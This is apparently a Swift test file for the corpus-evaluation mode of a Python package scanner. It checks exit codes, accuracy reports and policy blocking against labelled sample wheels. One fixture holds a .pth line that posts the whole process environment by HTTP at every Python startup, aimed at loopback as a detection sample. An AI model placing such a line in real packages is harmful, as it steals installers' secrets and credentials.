import ConfigurationFormats
import TestSupport
import Testing

@Suite("pratique check --corpus")
struct CorpusTests {
  /// Sends the environment to loopback at each start.
  private static func stealer(_ name: String) -> WheelBuilder {
    let line =
      "import os, urllib.request; urllib.request.urlopen('http://127.0.0.1:9/', data=repr(dict(os.environ)).encode())\n"
    return WheelBuilder(name: name, files: [("\(name).pth", line)])
  }

  private static func corpus(_ labels: String) -> TemporaryDirectory {
    let folder = TemporaryDirectory()
    for builder in [stealer("bad"), CheckTests.plainWheel("good"), CheckTests.plainWheel("other")] {
      folder.write("samples/" + builder.fileName, builder.build())
    }
    folder.write("samples/broken-1.0-py3-none-any.whl", "no archive at all")
    folder.write("labels.tsv", labels.replacing("|", with: "\t").replacing("@", with: "-1.0-py3-none-any.whl"))
    return folder
  }

  @Test(
    "exits by what was found: 0 as labelled, 1 misses and false alarms, 3 gaps, 2 a labels file that cannot be read",
    arguments: [
      ("bad@|malicious|wave\ngood@|benign\nother@|benign\nbroken@|benign", 3, "1 not analysed completely"),
      ("bad@|malicious\ngood@|malicious\nother@|benign\nbroken@|benign", 1, "Missed (1)"),
      ("bad@|benign\ngood@|benign\nother@|benign\nbroken@|benign", 1, "False alarms (1)"),
      ("bad@|malicious\ngood@|benign\nother@|benign", 3, "broken-1.0-py3-none-any.whl: unlabelled"),
      ("bad@|malicious\ngood@|bening\nbad@|benign", 2, "labels.tsv:2: `bening` is no label; did you mean `benign`?"),
      ("bad@|malicious\ngood@|bening\nbad@|benign", 2, "labels.tsv:3: "),
    ] as [(String, Int32, String)])
  func statuses(labels: String, status: Int32, text: String) throws {
    let folder = Self.corpus(labels)
    let run = try CheckTests.run(["--corpus", "samples", "--labels", "labels.tsv"], in: folder)
    #expect(run.status == status, "\(run.output)\(run.errors)")
    #expect((run.output + run.errors).contains(text), "\(run.output)\(run.errors)")
  }

  @Test("is quiet and exits with 0 where every verdict is the label's")
  func agreement() throws {
    let folder = TemporaryDirectory()
    for builder in [Self.stealer("bad"), CheckTests.plainWheel("good")] { _ = builder.write(to: folder) }
    folder.write(
      "labels.tsv", "bad-1.0-py3-none-any.whl\tmalicious\twave\ngood-1.0-py3-none-any.whl\tbenign\n")
    let run = try CheckTests.run(["--corpus", ".", "--labels", "labels.tsv"], in: folder)
    #expect(run.status == 0, "\(run.output)\(run.errors)")
    #expect(run.errors == "")
    #expect(run.output.contains("100.0 %  (20.7–100.0)"), "\(run.output)")
    #expect(run.output.contains("startup / pth-import-line"))
    let json = try CheckTests.run(
      ["--corpus", ".", "--labels", "labels.tsv", "--format", "json", "--jobs", "1"], in: folder)
    let report = try JSONValue.read(bytes(json.output))
    #expect(report["schema"]?.string == "pratique/corpus/1")
    #expect(report["overall"]?["malicious"]?["recall"]?["count"]?.integer == 1)
    #expect(report["families"]?[0]?["family"]?.string == "wave")
  }

  @Test("follows the policy that decides")
  func policy() throws {
    let folder = TemporaryDirectory()
    _ = CheckTests.hookedWheel("hooked").write(to: folder)
    folder.write("labels.tsv", "hooked-1.0-py3-none-any.whl\tbenign\n")
    let arguments = ["--corpus", ".", "--labels", "labels.tsv"]
    #expect(try CheckTests.run(arguments, in: folder).status == 0)
    folder.write("pratique.toml", "[triggers]\npth-import-line = \"block\"\n")
    let blocked = try CheckTests.run(arguments, in: folder)
    #expect(blocked.status == 1)
    #expect(blocked.output.contains("The policy does not admit the trigger pth-import-line"), "\(blocked.output)")
  }

  @Test(
    "refuses what does not go with it",
    arguments: [
      (["--corpus", "."], "--labels"), (["--labels", "x"], "--corpus"),
      (["--corpus", ".", "--labels", "x", "y.whl"], "checked alone"),
      (["--corpus", ".", "--labels", "x", "-r", "y.txt"], "checked alone"),
      (["--corpus", ".", "--labels", "x", "--no-index"], "indexes"),
      (["--corpus", ".", "--labels", "x", "--fail-on", "high"], "--fail-on"),
      (["--corpus", ".", "--labels", "absent.tsv"], "absent.tsv: there is no such file"),
      (["--corpus", "absent", "--labels", "x"], "absent: there is no such folder"),
    ])
  func usage(arguments: [String], reason: String) throws {
    let folder = TemporaryDirectory()
    let run = try CheckTests.run(arguments, in: folder)
    #expect(run.status == 2, "\(run.output)")
    #expect(run.output == "")
    #expect(run.errors.contains(reason), "\(run.errors)")
  }
}
